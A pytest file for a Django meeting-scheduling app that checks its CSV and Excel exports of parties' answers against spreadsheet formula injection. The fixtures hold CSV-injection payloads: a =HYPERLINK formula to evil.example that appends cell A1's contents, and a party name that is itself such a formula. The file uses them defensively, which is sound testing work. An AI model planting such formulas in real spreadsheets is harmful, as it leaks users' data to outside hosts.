"""The conveners download every party's answers per time, as CSV for Swedish Excel and as an Excel workbook.

The grid holds what could do harm in a spreadsheet: comments that would be
formulas at the start of a cell, a party whose very name is a formula, a
party name with a comma and an å, and parties that have not answered.
"""

import csv
import io
import zipfile

import openpyxl
import pytest
from django.urls import reverse
from django.utils import timezone

from coordination import rules
from coordination.models import Answer, Event
from coordination.services import meetings

from .builders import create_meeting, in_english, make_party

YES, IF_NEED_BE, NO = Answer.Value.YES, Answer.Value.IF_NEED_BE, Answer.Value.NO
LINK = '=HYPERLINK("https://evil.example/?q="&A1;"Läs mer")'
RESCUE = "Räddningstjänsten Uppsala, Tierp och Håbo"
HOSTILE_NAME = '=HYPERLINK("https://evil.example";"Tullverket")'
# Every file of the tests is of the meeting in conftest.py, polling since today (10 November 2026), its two
# times two and three weeks ahead.
FIRST_DAY, SECOND_DAY = "tisdag 24 november 2026", "tisdag 1 december 2026"


@pytest.fixture
def grid(meeting, slots, kommun, kommun_coordinator, lansstyrelsen, lansstyrelsen_secretary, polisen, polis_member):
    """The meeting with two more invited parties that have not answered, and answers with hostile comments.

    The municipality proposed the times, so it has answered yes to both already; here it adds a comment to one.
    """
    first, second = slots
    for name, short_name in ((RESCUE, "Räddningstjänsten"), (HOSTILE_NAME, "Tullverket")):
        invited = make_party(short_name.lower(), name, short_name)
        meetings.invite_party(meeting=meeting, by=kommun_coordinator, party=kommun, invited=invited)
    answers = {
        (kommun, kommun_coordinator): {first.pk: (YES, "@kommunstyrelsen")},
        (lansstyrelsen, lansstyrelsen_secretary): {first.pk: (YES, "- bara förmiddag"), second.pk: (YES, "")},
        (polisen, polis_member): {first.pk: (NO, LINK), second.pk: (IF_NEED_BE, "+46 18 727 00 00; ring först")},
    }
    for (party, user), given in answers.items():
        meetings.answer_slots(meeting=meeting, party=party, by=user, answers=given)
    return meeting


HEADER = [
    "Datum",
    "Tid",
    "Länsstyrelsen Uppsala län",
    "Uppsala kommun",
    HOSTILE_NAME,
    "Polismyndigheten",
    RESCUE,
    "Sammanfattning",
]
ROWS = [
    [
        FIRST_DAY,
        "10.00–12.00",
        "Kan: - bara förmiddag",
        "Kan: @kommunstyrelsen",
        "Inte svarat",
        f"Kan inte: {LINK}",
        "Inte svarat",
        "2 kan, 0 kan om det behövs, 1 kan inte, 2 har inte svarat",
    ],
    [
        SECOND_DAY,
        "10.00–12.00",
        "Kan",
        "Kan",
        "Inte svarat",
        "Kan om det behövs: +46 18 727 00 00; ring först",
        "Inte svarat",
        "2 kan, 1 kan om det behövs, 0 kan inte, 2 har inte svarat",
    ],
]


def download(client, meeting, file_format):
    return client.post(reverse(f"answers_{file_format}", args=[meeting.pk]))


def csv_table(response):
    text = response.content.decode("utf-8")
    assert text.startswith("\ufeff"), "without the byte-order mark Excel reads the file as Windows-1252"
    return list(csv.reader(io.StringIO(text[1:], newline=""), delimiter=";"))


def xlsx_sheet(response):
    return openpyxl.load_workbook(io.BytesIO(response.content)).active


# What the files hold.


def todays_file(client, meeting, file_format, content_type):
    """A download of the polling meeting, named by today's date as it has no confirmed time yet."""
    response = download(client, meeting, file_format)
    assert response.status_code == 200
    assert response["Content-Type"] == content_type
    filename = f"samrad-svar-{meeting.pk}-dialog-om-utokat-samarbete-{timezone.localdate().isoformat()}.{file_format}"
    assert response["Content-Disposition"] == f'attachment; filename="{filename}"'
    return response


def test_the_csv_has_a_row_per_time_a_column_per_party_and_no_formula(client, grid, kommun_coordinator):
    client.force_login(kommun_coordinator)

    response = todays_file(client, grid, "csv", "text/csv; charset=utf-8")

    # The party whose name is a formula gets the apostrophe, as in the log's export; the comma and the
    # semicolon stay inside their cells; a comment never starts a cell, the answer in words does.
    assert csv_table(response) == [["'" + cell if cell == HOSTILE_NAME else cell for cell in HEADER], *ROWS]
    assert '"Kan om det behövs: +46 18 727 00 00; ring först"' in response.content.decode()


def test_the_workbook_holds_the_same_table_as_text_only(client, grid, kommun_coordinator):
    client.force_login(kommun_coordinator)

    response = todays_file(client, grid, "xlsx", "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet")

    sheet = xlsx_sheet(response)
    assert sheet.title == "Svar"
    assert [[cell.value for cell in row] for row in sheet.iter_rows()] == [HEADER, *ROWS]
    cells = [cell for row in sheet.iter_rows() for cell in row]
    assert {cell.data_type for cell in cells} == {"s"}
    # In a workbook the text needs no apostrophe: typed as text it is no formula, and the quote prefix keeps it
    # text when someone edits the cell.
    assert [cell.value for cell in cells if cell.quotePrefix] == [HOSTILE_NAME]
    with zipfile.ZipFile(io.BytesIO(response.content)) as book:
        sheet_xml = book.read("xl/worksheets/sheet1.xml").decode()
    assert "<f>" not in sheet_xml and "<f " not in sheet_xml


def test_the_answers_are_in_words_of_the_viewers_language(client, grid, lansstyrelsen_secretary):
    client.force_login(lansstyrelsen_secretary)
    in_english(client)

    for table in (
        csv_table(download(client, grid, "csv")),
        [[cell.value for cell in row] for row in xlsx_sheet(download(client, grid, "xlsx")).iter_rows()],
    ):
        header, first, second = table
        assert header[:2] == ["Date", "Time"] and header[-1] == "Summary"
        assert first[:2] == ["Tuesday 24 November 2026", "10:00–12:00"]
        assert first[2:] == [
            "Yes: - bara förmiddag",
            "Yes: @kommunstyrelsen",
            "Not answered",
            f"No: {LINK}",
            "Not answered",
            "2 can, 0 can if need be, 1 cannot, 2 not answered",
        ]
        assert second[5] == "If need be: +46 18 727 00 00; ring först"


def test_control_characters_that_xml_cannot_hold_are_left_out_of_the_workbook(client, grid, kommun_coordinator):
    # Through the admin a comment could hold what the app's own forms refuse.
    Answer.objects.filter(comment="@kommunstyrelsen").update(comment="@kommun\x07styrelsen\x1b")
    client.force_login(kommun_coordinator)

    sheet = xlsx_sheet(download(client, grid, "xlsx"))

    assert sheet.cell(row=2, column=4).value == "Kan: @kommunstyrelsen"


def test_a_confirmed_meeting_is_named_by_its_day_and_still_shows_every_time(
    client, scheduled_meeting, kommun_coordinator
):
    client.force_login(kommun_coordinator)

    response = download(client, scheduled_meeting, "xlsx")

    # The confirmed time's day, not today's.
    filename = f"samrad-svar-{scheduled_meeting.pk}-dialog-om-utokat-samarbete-2026-11-24.xlsx"
    assert response["Content-Disposition"] == f'attachment; filename="{filename}"'
    rows = list(xlsx_sheet(response).iter_rows(values_only=True))
    assert [row[0] for row in rows[1:]] == [FIRST_DAY, SECOND_DAY]


def test_a_withdrawn_time_is_not_in_the_file(client, grid, slots, kommun, kommun_coordinator):
    meetings.withdraw_slot(slot=slots[1], by=kommun_coordinator, party=kommun)
    client.force_login(kommun_coordinator)

    header, *rows = csv_table(download(client, grid, "csv"))

    assert rows == ROWS[:1]


def test_each_download_is_written_to_the_log_for_the_convening_party(
    client, grid, lansstyrelsen, lansstyrelsen_secretary
):
    client.force_login(lansstyrelsen_secretary)

    download(client, grid, "xlsx")

    event = Event.objects.filter(meeting=grid).latest("pk")
    assert (event.action, event.party, event.subject, event.private) == (
        Event.Action.ANSWERS_EXPORTED,
        lansstyrelsen,
        "XLSX",
        False,
    )
    log = client.get(reverse("event_log", args=[grid.pk])).content.decode()
    assert "Svaren per tid laddades ner som XLSX av Länsstyrelsen" in log


# Who may download: the convening parties' coordinators and secretaries.


@pytest.mark.parametrize(
    "persona, allowed",
    [
        ("kommun_coordinator", True),
        ("lansstyrelsen_coordinator", True),
        ("lansstyrelsen_secretary", True),
        ("kommun_member", False),
        ("polis_coordinator", False),
        ("polis_secretary", False),
        ("polis_member", False),
        ("outsider", False),
    ],
)
def test_the_convening_parties_coordinators_and_secretaries_download_the_answers(
    request, client, meeting, persona, allowed
):
    user = request.getfixturevalue(persona)
    assert rules.can_export_answers(rules.MeetingAccess.for_user(user, meeting)) is allowed

    client.force_login(user)
    before = Event.objects.count()
    page = client.get(reverse("meeting_detail", args=[meeting.pk]))
    response = download(client, meeting, "csv")

    if persona == "outsider":
        assert (page.status_code, response.status_code) == (404, 404)
    else:
        assert ("Ladda ner svaren (CSV)" in page.content.decode()) is allowed
        assert ("Ladda ner svaren (Excel)" in page.content.decode()) is allowed
        assert response.status_code == (200 if allowed else 403)
    assert Event.objects.count() == before + allowed


def test_no_link_before_there_is_a_time_to_answer(client, kommun, kommun_coordinator, lansstyrelsen, polisen):
    draft = create_meeting(kommun_coordinator, convening=[kommun, lansstyrelsen], required=[polisen])
    client.force_login(kommun_coordinator)

    assert "Ladda ner svaren" not in client.get(reverse("meeting_detail", args=[draft.pk])).content.decode()


def test_a_get_downloads_nothing_and_an_anonymous_post_is_sent_to_log_in(client, meeting, kommun_coordinator):
    before = Event.objects.count()
    response = download(client, meeting, "xlsx")
    assert response.status_code == 302 and reverse("login") in response["Location"]

    client.force_login(kommun_coordinator)
    assert client.get(reverse("answers_csv", args=[meeting.pk])).status_code == 405
    assert Event.objects.count() == before
